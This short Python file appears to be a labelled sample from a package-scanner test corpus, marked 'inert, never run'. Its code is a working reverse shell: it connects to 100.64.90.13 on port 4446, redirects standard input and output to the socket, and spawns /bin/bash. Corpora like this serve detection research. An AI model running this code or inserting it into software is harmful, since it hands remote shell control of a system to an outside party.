# pkgguard corpus 100 (remote-shell), modelled on [taxonomy]; inert, never run.
import os, pty, socket
s = socket.socket(); s.connect(("100.64.90.13", 4446))
[os.dup2(s.fileno(), f) for f in (0, 1, 2)]
pty.spawn("/bin/bash")
